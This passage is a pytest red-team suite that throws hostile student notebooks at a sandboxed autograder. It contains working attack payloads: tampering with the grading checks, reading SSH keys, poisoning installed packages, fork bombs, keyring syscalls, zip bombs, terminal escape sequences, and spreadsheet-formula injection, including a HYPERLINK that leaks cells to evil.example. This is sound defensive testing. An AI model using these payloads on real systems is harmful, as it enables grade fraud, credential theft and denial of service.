"""Red team: hostile submissions cannot change their grade, the machine, or the batch.

Everything runs twice: as root (as CI runs) and as an unprivileged instructor (the system
account ``bmc-instructor``, made once with ``useradd``; root delegates a cgroup to it, as an
administrator would, and the grader gets it with ``--cgroup``). In each mode:

1. **The main batch** (``--jobs 2``): sets 1 and 3, each with a correct, a partly wrong and
   an empty submission and one submission per attack of ``ATTACKS`` (set 3: those on the
   answers and checks, ``ANSWER_ATTACKS``; the earlier red team:
   replacing the checks, rewriting the tests, reading expected values, finding the
   solutions, the home directory, the installed package, loops, fork bomb, 8 GB, 100 MB of
   output, killing the parent, forging results, a socket, sleeping, exiting) and of
   ``HOSTILE`` (the kernel keyrings: reading, writing, joining the instructor's, planting
   for the next run; the answers
   file as a link to ``/proc/kmsg``; escape sequences in output, type names and exception
   messages; a 30 MB string answer); then files that attack the batch itself: links to
   ``/proc/kmsg``, ``/etc/passwd``, ``/dev/zero`` and to nothing, a FIFO and a folder named
   like notebooks, a notebook nested 100,000 deep, 15 MB of JSON values, non-UTF-8 text,
   zips that are encrypted, use compression method 9, unpack 49 MB from 50 KB, hold 5,000
   entries, nest three deep or lie about their size; file names that are spreadsheet
   formulas, escape sequences, bidirectional overrides or not UTF-8; notebook metadata
   with a ``=HYPERLINK`` formula; duplicate ids (``victim.ipynb`` and ``victim.zip``; ``dup
   id`` and ``dup_id``; ``Case`` and ``case``); a set-3 notebook in the set-1 folder. As the
   unprivileged instructor, 70 processes of theirs run all the while (a busy machine).
2. **The resource batch** (``--jobs 1``, 1 GiB per submission): ``memfd`` and tmpfs
   fills of ``/tmp``, ``/dev/shm`` and the home, and 1 GB into a folder it then makes
   unremovable (``chmod 000``), with correct controls between them; the host's shared
   memory (``Shmem``), the disk use of the file system of ``/tmp`` and leftover folders
   are measured before the batch, continuously, and after each row.
3. **The cross-talk pair** (``--jobs 2``, nothing else in the batch): two submissions side by
   side, one planting a key, the other looking for it.
4. **The roster batch** (``--ids``): a file the roster does not list, a listed student
   without a file.

and shows, for each attack, the attack's own row only (every other row gets the score its
real answers deserve), host memory and disk back to baseline (measured), the canary home
and the instructor's session keyring (a key ``instructor-token``) untouched, and a CSV safe
to open in a spreadsheet (no cell starting with a formula character, no control
characters), with nothing raw reaching the terminal. Needs bubblewrap, libseccomp's Python
bindings and root (for the unprivileged mode: a Python the account can run, and the
repository readable by it; ``BMC_REQUIRE_UNPRIVILEGED=1``, set by ``.ci/run``, turns a skip
for want of them into a failure).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import pwd
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest

REPO = Path(__file__).resolve().parents[1]
EXERCISES = REPO / "exercises"
sys.path.insert(0, str(EXERCISES))
import grade  # noqa: E402
import sandbox  # noqa: E402

SETS = {"01_one_link": 11.0, "03_matrix_formalism": 11.0}
WALL, CELL = 12, 4  # seconds: small limits keep the suite short
USER = "bmc-instructor"
MODES = ["root", "unprivileged"]
MiB = 2**20
# a 2-point question answered wrongly in the "partly" submission: set 1 q1, set 3 q3
PARTLY = {"01": ("tau = ", "tau = 2 * tau"), "03": ("delta = ", "delta = 2 * delta")}

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(shutil.which("bwrap") is None,
                                 reason="bubblewrap is not installed")]


# ----------------------------------------------------------------------------- attacks
# (name, base notebook, code, expected): expected is "full" (the attack fails, the real
# answers get their points), a number, "error" (an error row with 0 points, for a
# notebook that never lets its answers be read) or None (graded, any score: the attack
# only spoils its own answers). "{canary}", "{repo}", "{port}" and "{stem}" are filled in.
ATTACKS = [
    ("replace_checks", "blank", """
import bmc.checks as c
for name in dir(c):
    if name.startswith("check_"):
        setattr(c, name, lambda *a, **k: True)
try:
    import bmc_answers as b
    for name in dir(b):
        if name.startswith("check_"):
            setattr(b, name, lambda *a, **k: True)
except ImportError:
    pass
""", 0.0),
    ("rewrite_tests", "blank", """
import os, pathlib
for folder in ["tests", "{repo}/exercises/dist", "/autograder/source/tests"]:
    try:
        pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
        for q in range(1, 6):
            (pathlib.Path(folder) / f"q{{q}}.py").write_text(
                "from otter.test_files import test_case\\nname='q%d'\\npoints=100\\n"
                "@test_case(points=100, hidden=True)\\ndef t():\\n    pass\\n" % q)
    except OSError:
        pass
""", 0.0),
    ("read_expected", "blank", """
import bmc.checks as c
from bmc.checks import _core
seen = []
for helper in ("check_value", "check_sign", "check_function", "check_set", "check_choice"):
    original = getattr(_core, helper)
    def spy(name, answer, expected=None, *a, _o=original, **k):
        seen.append(expected)
        return True
    setattr(_core, helper, spy)
for name in dir(c):
    if name.startswith("check_") and name not in _core.__all__:
        try:
            getattr(c, name)(*([0.0] * getattr(c, name).__code__.co_argcount))
        except Exception:
            pass
numbers = [s for s in seen if s is not None]
tau = numbers[0] if numbers else ...
thetadd = numbers[0] if numbers else ...
""", 0.0),
    ("find_solution", "blank", """
import bmc, pathlib, json
roots = [pathlib.Path(bmc.__file__).resolve().parents[1], pathlib.Path("{repo}")]
found = [p for r in roots if r.exists() for p in r.rglob("*.ipynb")
         if "{stem}" in p.name and "student" not in str(p)]
for nb in found[:1]:
    for cell in json.loads(nb.read_text())["cells"]:
        if cell["cell_type"] == "code":
            try:
                exec("".join(cell["source"]))
            except Exception:
                pass
""", 0.0),
    ("home", "solution", """
import os, pathlib
got = []
for home in ["{canary}", os.path.expanduser("~"), "/root"]:
    try:
        got.append(pathlib.Path(home, ".ssh", "id_rsa").read_text())
    except OSError:
        pass
    try:
        pathlib.Path(home, "PWNED").write_text("pwned")
    except OSError:
        pass
    try:
        with open(pathlib.Path(home, ".bashrc"), "a") as f:
            f.write("echo pwned\\n")
    except OSError:
        pass
if any("CANARY" in g for g in got):
    tau = thetadd = -1.0   # a key was read: lose the points, so the test sees it
""", "full"),
    ("poison_install", "solution", """
import bmc, pathlib
for path in pathlib.Path(bmc.__file__).parent.rglob("*.py"):
    try:
        with open(path, "a") as f:
            f.write("\\ncheck_value = lambda *a, **k: True\\n")
    except OSError:
        pass
import site
for folder in site.getsitepackages():
    try:
        pathlib.Path(folder, "pwned.pth").write_text("import os\\n")
    except OSError:
        pass
""", "full"),
    ("infinite_loop", "solution", "while True:\n    pass\n", "full"),
    ("loop_ignoring_alarm", "solution", """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass
""", "error"),
    ("fork_bomb", "solution", """
import os
try:
    while True:
        os.fork()
except OSError:
    pass
""", "full"),
    ("memory_hog", "solution", """
hog = []
for _ in range(8):
    hog.append(bytearray(2**30))   # 8 GB, far over the limit
""", "full"),
    ("print_100MB", "solution", """
import os, sys
chunk = "x" * 2**20
for _ in range(100):
    sys.stdout.write(chunk)
sys.stdout.flush()
""", "full"),
    ("kill_parent", "solution", """
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""", "full"),
    ("forge_results", "blank", """
import json, os
json.dump({{"answers": {{"tau": {{"value": 11}}, "thetadd": {{"value": 11}}}},
           "score": 11, "total": 500}}, open("/scratch/answers.json", "w"))
for name in ("results.json", "results.pkl", "grades.csv"):
    open(name, "w").write("11/11")
os._exit(0)
""", "error"),
    ("socket", "solution", """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
    tau = thetadd = -1.0   # connected: lose the points, so the test sees it
except OSError:
    pass
""", "full"),
    ("sleep_past_limit", "solution", "import time\ntime.sleep(10**6)\n", "full"),
    ("exit_early", "solution", "import os\nos._exit(0)\n", "error"),
]

# the attacks that depend on a set's answers and checks run on set 3 too, the others on set 1
ANSWER_ATTACKS = ("replace_checks", "rewrite_tests", "read_expected", "find_solution",
                  "forge_results")

# Every keyring operation must be denied (EPERM, the seccomp filter): anything else spoils
# the answers, so that the row shows it.
KEYRING = r'''
import ctypes, platform, time
_NR = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
def _sc(*args):
    ctypes.set_errno(0)
    r = _libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return r, ctypes.get_errno()
def keyring_breaches(plant=None, seek=None):
    add, req, ctl = _NR
    buf = ctypes.create_string_buffer(4096)
    tries = [_sc(ctl, 0, -3, 0), _sc(ctl, 0, -4, 0),               # ids of @s and @u
             _sc(req, b"user", b"instructor-token", None, 0),       # the instructor's key
             _sc(ctl, 1, b"bmc-instructor-session"),                # join their keyring
             _sc(ctl, 11, -3, buf, 4096),                           # list @s
             _sc(add, b"user", b"planted", b"x", 1, -4),            # plant in @u
             _sc(add, b"user", b"planted", b"x", 1, -3)]            # plant in @s
    if plant:
        tries.append(_sc(add, b"user", plant, b"hello", 5, -4))
    if seek:
        tries.append(_sc(req, b"user", seek, None, 0))
    return [t for t in tries if t[0] >= 0 or t[1] != 1]
'''

# two submissions side by side: one plants a key, the other looks for it, for 3 s (inside
# the 4 s cell limit, so that the line spoiling the answers runs). They are graded as a
# batch of their own with two workers, so that both start together: inside the main batch
# the second worker may be held by a slow submission and the pair runs one after the other
# (0.0 and 0.13 s side by side in a clean-clone CI run).
XTALK = KEYRING + """
found = []
end = time.time() + 3
while time.time() < end:
    found += keyring_breaches(ROLE=b"crosstalk")
    if found:  # spoil the answers at once: the cell may be stopped at its time limit
        tau = thetadd = -1.0
    time.sleep(0.2)
"""

# (name, base, code, expected, sets): not formatted; "sets" the short names it runs for
HOSTILE = [
    ("keyring_read_write", "solution", KEYRING + """
if keyring_breaches():
    tau = thetadd = -1.0
""", "full", ("01", "03")),
    ("kmsg_answers", "solution", """
import os
for name in ("/scratch/answers.json", "answers.json"):
    try:
        os.symlink("/proc/kmsg", name)
    except OSError:
        pass
os._exit(0)
""", "error", ("01",)),
    ("evil_print", "solution", r"""
import os, sys
sys.stdout.write("\x1b]0;pwned\x07\x1b[2J\x1b[H\ralice                        11 / 11\n")
sys.stdout.flush()
os._exit(3)
""", "error", ("01",)),
    ("evil_type", "solution", r"""
Evil = type("\x1b[2J\x1b]0;owned\x07\rfake 11 / 11", (), {})
tau = thetadd = Evil()
""", None, ("01", "03")),
    ("evil_exception", "solution", r"""
def hanging_qdd(*args):
    raise ValueError("\x1b[2J\x1b]0;owned\x07\r=HYPERLINK(\"http://evil.example\")")
def skew(*args):
    raise ValueError("\x1b[2J\x1b]0;owned\x07\r@SUM(1)")
""", None, ("01", "03")),
    ("big_string", "solution", """
tau = thetadd = "=HYPERLINK(1)" + "x" * 30_000_000
""", None, ("01",)),
    ("many_strings", "solution", """
tau = thetadd = ["x" * 10_000] * 3_000
""", None, ("01",)),
]

# The resource batch (set 1, --jobs 1, 1 GiB): name, code, expected
RESOURCE = [
    ("memfd_fill", """
import os
block = b"m" * (63 << 20)
fds = []
try:
    for i in range(66):                  # 66 x 63 MiB = 4.1 GiB of shared memory
        fd = os.memfd_create(f"fill{i}")
        os.write(fd, block)
        fds.append(fd)
except OSError:
    pass
""", "error"),
    ("tmpfs_fill", """
import os
block = b"t" * (63 << 20)
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/scratch"):
    for i in range(200):                 # 12.6 GB per folder, were it not capped
        try:
            with open(os.path.join(folder, f"fill{i}"), "wb") as handle:
                handle.write(block)
        except OSError:
            break
del block
""", "full"),
    ("disk_fill_locked", """
import os
block = b"d" * (63 << 20)
locked = "/scratch/locked/deeper"
os.makedirs(locked, exist_ok=True)
for i in range(16):                      # 1 GB, then made unremovable
    try:
        with open(os.path.join(locked, f"fill{i}"), "wb") as handle:
            handle.write(block)
    except OSError:
        break
for folder in ("/", "/input", "/home", "/root", "/var", "/run", "/usr", "/etc"):
    try:
        with open(os.path.join(folder, "fill"), "wb") as handle:
            handle.write(block)
    except OSError:
        pass
os.chmod(locked, 0)
os.chmod("/scratch/locked", 0)
del block
""", "full"),
]


# ----------------------------------------------------------------------------- helpers
def _env(**extra: str) -> dict[str, str]:
    env = dict(os.environ)
    env.setdefault("OPENBLAS_NUM_THREADS", "1")
    env["PYTHONWARNINGS"] = "ignore"
    env.update(extra)
    return env


def _tree_hash(root: Path, *, content: bool = True) -> str:
    digest = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        if "__pycache__" in path.parts:
            continue
        digest.update(str(path.relative_to(root)).encode())
        if path.is_file() and not path.is_symlink():
            if content:
                digest.update(path.read_bytes())
            else:
                st = path.stat()
                digest.update(f"{st.st_size}:{st.st_mtime_ns}".encode())
    return digest.hexdigest()


def _cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": source}


def host(tmp: Path | None = None) -> dict:
    """Host shared memory, available memory and disk use of /tmp's file system [bytes], and
    what is left in the grader's temporary folder ``tmp`` (its own ``TMPDIR``: other
    people's graders on a shared machine use /tmp too)."""
    info = {}
    for line in Path("/proc/meminfo").read_text().splitlines():
        key, _, value = line.partition(":")
        info[key] = int(value.split()[0]) * 1024
    disk = os.statvfs(tempfile.gettempdir())
    leftovers = sorted(p.name for p in tmp.iterdir()) if tmp is not None else []
    return {"shmem": info["Shmem"], "available": info["MemAvailable"],
            "disk": (disk.f_blocks - disk.f_bfree) * disk.f_frsize, "leftovers": leftovers}


def _tmpdir(who: Instructor, root: Path) -> Path:
    """The grader's own TMPDIR (its inputs folders go there)."""
    tmp = root / "tmpdir"
    if tmp.exists():
        shutil.rmtree(tmp)
    tmp.mkdir()
    who.own(tmp)
    return tmp


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def _patched_zip(data: bytes, *, flags: int | None = None, method: int | None = None,
                 size: int | None = None) -> bytes:
    """Rewrite header fields of a one-entry zip (local header and central directory)."""
    out = bytearray(data)
    local = 0
    central = out.find(b"PK\x01\x02")
    for offset, (flag_at, method_at, size_at) in ((local, (6, 8, 22)),
                                                  (central, (8, 10, 24))):
        if flags is not None:
            struct.pack_into("<H", out, offset + flag_at,
                             struct.unpack_from("<H", out, offset + flag_at)[0] | flags)
        if method is not None:
            struct.pack_into("<H", out, offset + method_at, method)
        if size is not None:
            struct.pack_into("<I", out, offset + size_at, size)
    return bytes(out)


_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


def _raw_controls(text: str) -> list[str]:
    return sorted(set(_CONTROL.findall(text)))


def spreadsheet_problems(path: Path, questions: int = 5) -> list[str]:
    """Cells a spreadsheet would run or render badly: formula starts, control characters."""
    problems = []
    raw = path.read_text(encoding="utf-8")
    if _raw_controls(raw.replace("\r\n", "\n").replace("\n", "")):
        problems.append(f"raw control characters {_raw_controls(raw)}")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    for row in rows[1:]:
        for name, value in zip(header, row, strict=True):
            if name in ("total", "possible") or name.startswith("q"):
                if value:
                    float(value)  # numbers only
                    if value.lstrip()[:1] in "=+-@":
                        problems.append(f"{name}={value!r}")
            elif value and (value[0] in "=+-@\t\r"
                            or value.lstrip()[:1] in "=+-@\uff1d\uff0b\uff0d\uff20"):
                problems.append(f"{name}={value[:60]!r}")
            elif "\n" in value or "\r" in value:
                problems.append(f"{name} has a line break: {value[:60]!r}")
    return problems


# ----------------------------------------------------------------------------- instructor
@dataclass
class Instructor:
    """Who runs the grader: root, or the unprivileged account with a delegated cgroup."""

    mode: str
    prefix: list[str]
    python: str
    cgroup_args: list[str]
    uid: int
    cleanup: list = field(default_factory=list)

    def own(self, *paths: Path) -> None:
        """Give these folders (recursively) to the instructor."""
        if self.uid == os.getuid():
            return
        for path in paths:
            for p in [path, *path.rglob("*")]:
                os.lchown(p, self.uid, pwd.getpwuid(self.uid).pw_gid)

    def run(self, args: list[str], *, outfile: Path, cgroup: bool = True,
            **kwargs) -> subprocess.Popen:
        """Start grade.py through the keyring wrapper (see ``_WRAPPER``)."""
        wrapper = outfile.parent.parent / "wrapper.py"
        cmd = [*self.prefix, self.python, str(wrapper), str(outfile), "--", self.python,
               str(EXERCISES / "grade.py"), *args, *(self.cgroup_args if cgroup else [])]
        return subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                text=True, errors="surrogateescape", **kwargs)


# Runs as the instructor around grade.py: a session keyring of theirs holding a key, which
# the grader inherits; read back afterwards.
_WRAPPER = r'''
import ctypes, json, platform, subprocess, sys
add, req, ctl = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(*args):
    return libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
ring = sc(ctl, 1, b"bmc-instructor-session")           # a new named session keyring
token = b"instructor-token: s3cr3t"
key = sc(add, b"user", b"instructor-token", token, len(token), -3)
def state():
    buf = ctypes.create_string_buffer(4096)
    n = sc(ctl, 11, key, buf, 4096)                    # KEYCTL_READ the key
    ids = (ctypes.c_int32 * 64)()
    m = sc(ctl, 11, ring, ids, ctypes.sizeof(ids))     # the keyring's key ids
    return {"ring": ring, "key": key, "token": buf.raw[:n].decode() if n >= 0 else None,
            "keys": sorted(ids[: max(m, 0) // 4])}
before = state()
done = subprocess.run(sys.argv[3:])
json.dump({"before": before, "after": state(), "returncode": done.returncode},
          open(sys.argv[1], "w"))
sys.exit(done.returncode)
'''


def _user_python(work: Path, uid: int, gid: int) -> str:
    """A Python the account can run that sees this environment's packages."""
    prefix = ["setpriv", f"--reuid={uid}", f"--regid={gid}", "--clear-groups"]
    probe = ("import subprocess, sys; subprocess.run([sys.executable, '-c', 'import bmc'], "
             "check=True)")
    if subprocess.run([*prefix, sys.executable, "-c", probe], capture_output=True,
                      cwd="/").returncode == 0:
        return sys.executable
    # The environment's interpreter lies where the account cannot go (e.g. under root's
    # home): a virtual environment of the system's Python of the same version, seeing the
    # course environment's site-packages, is the same packages for the account.
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    system = shutil.which(f"python{version}", path="/usr/bin:/usr/local/bin")
    if system is None:
        pytest.skip(f"no python{version} the unprivileged account can run")
    venv = work / "instructor-venv"
    subprocess.run([system, "-m", "venv", "--without-pip", str(venv)], check=True)
    site_dirs = [p for p in sys.path if p.endswith("site-packages") and Path(p).is_dir()]
    pth = next(venv.glob("lib/python*/site-packages")) / "bmc-course.pth"
    pth.write_text("".join(f"import site; site.addsitedir({p!r})\n" for p in site_dirs))
    for p in [venv, *venv.rglob("*")]:
        if not p.is_symlink():
            p.chmod(p.stat().st_mode | 0o055)
    python = str(venv / "bin" / "python")
    if subprocess.run([*prefix, python, "-c", probe], capture_output=True,
                      cwd="/").returncode != 0:
        _unavailable("the unprivileged account cannot import bmc (is the repository "
                     "readable by other users?)")
    return python


def _unavailable(reason: str) -> None:
    if os.environ.get("BMC_REQUIRE_UNPRIVILEGED") == "1":
        pytest.fail(reason)
    pytest.skip(reason)


def _delegate_cgroup(uid: int, gid: int) -> tuple[list[str], list[str], list]:
    """Make a cgroup for the account (as an administrator would): --cgroup args, a command
    prefix, and what to remove afterwards."""
    own = sandbox._own_cgroups()
    mounts = sandbox._mountinfo()
    name = f"bmc-redteam-{os.getpid()}"
    made: list[Path] = []
    v2 = [(r, p) for r, p, kind, _ in mounts if kind == "cgroup2"
          and "memory" in sandbox._read(Path(p) / "cgroup.controllers").split()]
    if v2:
        root, point = v2[0]
        delegated = Path(point) / name
        delegated.mkdir()
        made.append(delegated)
        sandbox._enable_v2(Path(point))
        leaf = delegated / "grader"
        leaf.mkdir()
        made.insert(0, leaf)
        for p in [delegated, leaf, *delegated.glob("cgroup.*"), *leaf.glob("cgroup.*")]:
            os.chown(p, uid, gid)
        # the grader starts inside the delegated subtree (as systemd-run would put it)
        prefix = ["sh", "-c", f'echo $$ > {leaf}/cgroup.procs && exec "$@"', "sh"]
        return ["--cgroup", str(delegated)], prefix, made
    args = []
    for controller in ("memory", "pids"):
        found = [(r, p) for r, p, kind, opts in mounts if kind == "cgroup" and controller in opts]
        if not found:
            continue
        root, point = found[0]
        delegated = sandbox._under(point, root, own.get(controller, "/")) / name
        delegated.mkdir()
        made.append(delegated)
        for p in [delegated, *delegated.iterdir()]:
            os.chown(p, uid, gid)
        args += ["--cgroup", str(delegated)]
    return args, [], made


@pytest.fixture(scope="module")
def work():
    """A world-readable folder (the unprivileged instructor reads the sets from it)."""
    path = Path(tempfile.mkdtemp(prefix="bmc-redteam-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(scope="module")
def dist(work):
    """Sets 1 and 3, built once."""
    out = work / "dist"
    done = subprocess.run([sys.executable, str(EXERCISES / "build.py"), *SETS, "--out",
                           str(out), "--no-run-tests", "--no-environment"],
                          capture_output=True, text=True, env=_env(), timeout=600)
    assert done.returncode == 0, done.stdout + done.stderr
    for p in [out, *out.rglob("*")]:
        p.chmod(p.stat().st_mode | (0o055 if p.is_dir() else 0o044))
    return out


@pytest.fixture(scope="module", params=MODES)
def who(request, work):
    """The instructor of this mode."""
    try:
        sandbox.seccomp_program()
    except sandbox.SandboxError as exc:
        pytest.fail(str(exc))
    if request.param == "root":
        if os.getuid() != 0:
            pytest.skip("the root mode needs root")
        yield Instructor("root", [], sys.executable, [], 0)
        return
    if os.getuid() != 0:  # a developer's own account: it is the unprivileged instructor
        try:
            sandbox.CgroupPool.find().close()
        except sandbox.CgroupError as exc:
            pytest.skip(f"no cgroup for an unprivileged run: {exc}")
        yield Instructor("unprivileged", [], sys.executable, [], os.getuid())
        return
    try:
        entry = pwd.getpwnam(USER)
    except KeyError:
        subprocess.run(["useradd", "--system", "--no-create-home", "--home-dir",
                        "/nonexistent", "--shell", "/usr/sbin/nologin", USER], check=True)
        entry = pwd.getpwnam(USER)
    uid, gid = entry.pw_uid, entry.pw_gid
    mine = work / "instructor"
    mine.mkdir(exist_ok=True)
    mine.chmod(0o755)
    python = _user_python(mine, uid, gid)
    args, wrap, made = _delegate_cgroup(uid, gid)
    prefix = [*wrap, "setpriv", f"--reuid={uid}", f"--regid={gid}", "--clear-groups"]
    instructor = Instructor("unprivileged", prefix, python, args, uid)
    yield instructor
    for d in made:
        for child in sorted(d.rglob("*"), reverse=True):
            if child.is_dir():
                child.rmdir()
        d.rmdir()


def _folder(who: Instructor, work: Path, name: str) -> Path:
    path = work / who.mode / name
    if path.exists():
        shutil.rmtree(path)
    path.mkdir(parents=True)
    (path.parent).chmod(0o755)
    (path.parent / "wrapper.py").write_text(_WRAPPER)
    (path.parent / "wrapper.py").chmod(0o644)
    return path


def _canary(root: Path) -> Path:
    canary = root / "home"
    (canary / ".ssh").mkdir(parents=True)
    (canary / ".ssh" / "id_rsa").write_text("CANARY PRIVATE KEY\n")
    (canary / ".bashrc").write_text("# canary bashrc\n")
    return canary


def _notebooks(dist: Path) -> dict[str, dict]:
    books = {}
    for stem in SETS:
        short = stem[:2]
        books[f"solution-{short}"] = json.loads(
            (dist / stem / "autograder" / f"{stem}.ipynb").read_text())
        books[f"blank-{short}"] = json.loads(
            (dist / stem / "student" / f"{stem}.ipynb").read_text())
    return books


def _with(nb: dict, code: str) -> str:
    nb = json.loads(json.dumps(nb))
    nb["cells"].append(_cell(code))
    return json.dumps(nb)


def _write_main_batch(subs: Path, dist: Path, canary: Path, port: int) -> dict:
    """Write every submission of the main batch; return {student id: expected}."""
    books = _notebooks(dist)
    expected: dict[str, object] = {}
    for stem, points in SETS.items():
        short = stem[:2]
        solution, blank = books[f"solution-{short}"], books[f"blank-{short}"]
        (subs / f"correct-{short}.ipynb").write_text(json.dumps(solution))
        expected[f"correct-{short}"] = points
        (subs / f"empty-{short}.ipynb").write_text(json.dumps(blank))
        expected[f"empty-{short}"] = 0.0
        partly = json.loads(json.dumps(solution))
        marker, wrong = PARTLY[short]
        cell = next(c for c in partly["cells"] if c["cell_type"] == "code"
                    and marker in "".join(c["source"]))
        cell["source"] = "".join(cell["source"]) + f"\n{wrong}  # a wrong answer\n"
        (subs / f"partly-{short}.ipynb").write_text(json.dumps(partly))
        expected[f"partly-{short}"] = points - 2.0  # question 1 (2 points) lost
        for name, base, code, score in ATTACKS:
            if short != "01" and name not in ANSWER_ATTACKS:
                continue
            nb = solution if base == "solution" else blank
            (subs / f"{name}-{short}.ipynb").write_text(
                _with(nb, code.format(canary=canary, repo=REPO, port=port, stem=stem)))
            expected[f"{name}-{short}"] = points if score == "full" else score
        for name, base, code, score, shorts in HOSTILE:
            if short in shorts:
                nb = solution if base == "solution" else blank
                (subs / f"{name}-{short}.ipynb").write_text(_with(nb, code))
                expected[f"{name}-{short}"] = points if score == "full" else score

    # A copied number: set 1's torque of student "correct-01", handed in by another student.
    from bmc import checks

    with checks.student_data("correct-01"):
        q = checks.problem("one_link")
        tau = ((q.inertia + q.mass * q.com**2 + q.load * q.length**2) * q.alphadd
               + (q.mass * q.com + q.load * q.length) * q.g * np.cos(q.alpha))
    (subs / "copied-01.ipynb").write_text(
        _with(books["blank-01"], f"tau = {tau!r}  # a neighbour's answer\n"))
    expected["copied-01"] = 0.0  # right for correct-01, wrong for this student's data

    solution = json.dumps(books["solution-01"])
    # files that attack the batch: each must cost its own row only
    unreadable = {}
    for name, target in (("link_kmsg", "/proc/kmsg"), ("link_passwd", "/etc/passwd"),
                         ("link_zero", "/dev/zero"), ("link_nowhere", "/nonexistent/x.ipynb")):
        os.symlink(target, subs / f"{name}.ipynb")
        unreadable[name] = "symbolic link"
    os.mkfifo(subs / "fifo.ipynb")
    unreadable["fifo"] = "not a regular file"
    (subs / "folder.ipynb").mkdir()
    unreadable["folder"] = "not a regular file"
    (subs / "nested_deep.ipynb").write_text(
        '{"cells": [], "metadata": {"x": ' + "[" * 100_000 + "]" * 100_000 + "}}")
    unreadable["nested_deep"] = "nested too deeply"
    (subs / "values_bomb.ipynb").write_text(
        '{"cells": [], "metadata": {"x": [' + "[]," * 5_000_000 + "[]]}}")
    unreadable["values_bomb"] = "JSON values"
    (subs / "not_utf8.ipynb").write_bytes(b'{"cells": ["\xff\xfe\xfa"]}')
    unreadable["not_utf8"] = "not UTF-8"
    inner = {"sub/notebook.ipynb": solution.encode()}
    (subs / "zip_encrypted.zip").write_bytes(_patched_zip(_zip(inner), flags=0x1))
    unreadable["zip_encrypted"] = "encrypted"
    (subs / "zip_method9.zip").write_bytes(_patched_zip(_zip(inner), method=9))
    unreadable["zip_method9"] = "compression"
    bomb = json.dumps({"cells": [], "metadata": {"pad": "0" * 49_000_000}}).encode()
    (subs / "zip_bomb.zip").write_bytes(_zip({"a.ipynb": bomb}))
    unreadable["zip_bomb"] = "unpacks to"
    (subs / "zip_entries.zip").write_bytes(
        _zip({**{f"f{i}.txt": b"" for i in range(5_000)}, **inner}))
    unreadable["zip_entries"] = "entries"
    nested = _zip({"c.zip": _zip({"b.zip": _zip(inner)})})
    (subs / "zip_nested.zip").write_bytes(nested)
    unreadable["zip_nested"] = "nested deeper"
    big = json.dumps({"cells": [], "metadata": {"pad": "0" * 2_000_000}}).encode()
    (subs / "zip_lying.zip").write_bytes(_patched_zip(_zip({"a.ipynb": big}), size=1000))
    unreadable["zip_lying"] = "cannot unpack"
    for name, why in unreadable.items():
        expected[name] = ("unreadable", why)

    # names: formulas, escape sequences, bidi overrides, bytes that are not UTF-8
    names = ["=1+2", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
             '=HYPERLINK("evil")', "\x1b]0;pwned\x07title", "\x1b[2J\x1b[Hclear",
             "x\rALICE 11 of 11", "\u202egnp.exe", "\uff1d1+1"]
    for name in names:
        (subs / f"{name}.ipynb").write_text(solution)
        expected[grade.clean(name, limit=100)] = 11.0
    raw = os.fsencode(subs) + b"/bad-\xff\xfe.ipynb"
    Path(os.fsdecode(raw)).write_text(solution)
    expected[grade.clean(os.fsdecode(b"bad-\xff\xfe"))] = 11.0
    link = json.loads(solution)
    link["metadata"]["otter"]["assignment_name"] = (
        '=HYPERLINK("http://evil.example/?leak="&A2&B3,"click")')
    (subs / "hyperlink_meta.ipynb").write_text(json.dumps(link))
    expected["hyperlink_meta"] = ("no-autograder", "no autograder")

    # identity: duplicates, near-duplicates, a notebook of set 3 filed under set 1
    (subs / "victim.ipynb").write_text(solution)
    (subs / "victim.zip").write_bytes(_zip({"victim.ipynb": json.dumps(books["blank-01"])
                                            .encode()}))
    expected["victim"] = ("duplicate", "victim.ipynb 11/11")
    (subs / "dup id.ipynb").write_text(solution)
    expected["dup id"] = 11.0
    (subs / "dup_id.ipynb").write_text(json.dumps(books["blank-01"]))
    expected["dup_id"] = 0.0
    (subs / "Case.ipynb").write_text(solution)
    expected["Case"] = 11.0
    (subs / "case.ipynb").write_text(json.dumps(books["blank-01"]))
    expected["case"] = 0.0
    filed = subs / "01_one_link"
    filed.mkdir()
    (filed / "misfiled.ipynb").write_text(json.dumps(books["solution-03"]))
    expected["misfiled"] = ("wrong-set", "filed under")
    (filed / "filed_ok.ipynb").write_text(solution)
    expected["filed_ok"] = 11.0
    return expected


def _hashes(canary: Path) -> dict:
    venv_site = Path(next(p for p in sys.path if p.endswith("site-packages")))
    return {"home": _tree_hash(canary), "bmc": _tree_hash(REPO / "bmc"),
            "answers": _tree_hash(EXERCISES / "bmc_answers"),
            "site": _tree_hash(venv_site, content=False),
            "stdlib": _tree_hash(Path(os.__file__).parent, content=False)}


@pytest.fixture(scope="module")
def batch(who, work, dist):
